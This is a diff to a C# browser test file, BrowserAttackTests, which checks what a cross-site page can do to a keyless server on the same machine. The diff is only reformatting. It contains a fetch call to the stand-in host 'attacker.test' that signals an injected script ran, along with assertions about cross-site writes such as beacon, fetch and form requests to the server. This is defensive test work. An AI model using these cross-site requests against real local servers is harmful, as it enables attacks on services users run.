@@ -3,10 +3,8 @@ using System.Text.Json;
 
 namespace Remanso.Server.Tests.Browser;
 
-/// <summary>
-/// What a page of another site can do to a server on the same machine that has no keys, in a real browser. Each attack runs against a server without
-/// guards first: one that would not work there proves nothing here.
-/// </summary>
+/// <summary>What a page of another site can do to a server on the same machine that has no keys, in a real browser.
+/// Each attack runs against a server without guards first: one that would not work there proves nothing here.</summary>
 public sealed class BrowserAttackTests
 {
     /// <summary>A page that tells the attacker that its script ran.</summary>
@@ -25,8 +23,14 @@ public sealed class BrowserAttackTests
         await using var control = await Attacker.StartAsync();
         var worked = await AttackAsync(site, control, control.Port);
         Assert.Equal(
-            ["/empty ", "/set {\"key\":\"beacon\",\"value\":\"x\"}", "/set {\"key\":\"fetch\",\"value\":\"x\"}", "/set {\"key\":\"form\",\"value\":\"x\",\"z\":\"=\"}"],
-            control.Writes.Select(static write => write.TrimEnd('\r', '\n')).Order(StringComparer.Ordinal));
+            [
+                "/empty ",
+                "/set {\"key\":\"beacon\",\"value\":\"x\"}",
+                "/set {\"key\":\"fetch\",\"value\":\"x\"}",
+                "/set {\"key\":\"form\",\"value\":\"x\",\"z\":\"=\"}",
+            ],
+            control.Writes.Select(static write => write.TrimEnd('\r', '\n')).Order(StringComparer.Ordinal)
+        );
         Assert.Equal("opaque", worked.GetProperty("nocors").GetString());
 
         await using var attacker = await Attacker.StartAsync();
@@ -92,7 +96,8 @@ public sealed class BrowserAttackTests
         Assert.True(attacker.ScriptRan);
     }
 
-    private static string Script(int attacker) => $"fetch('http://attacker.test:{attacker.ToString(CultureInfo.InvariantCulture)}/ran', {{ mode: 'no-cors' }})";
+    private static string Script(int attacker) =>
+        $"fetch('http://attacker.test:{attacker.ToString(CultureInfo.InvariantCulture)}/ran', {{ mode: 'no-cors' }})";
 
     private static async Task<JsonElement> AttackAsync(string site, Attacker attacker, int victimPort)
     {
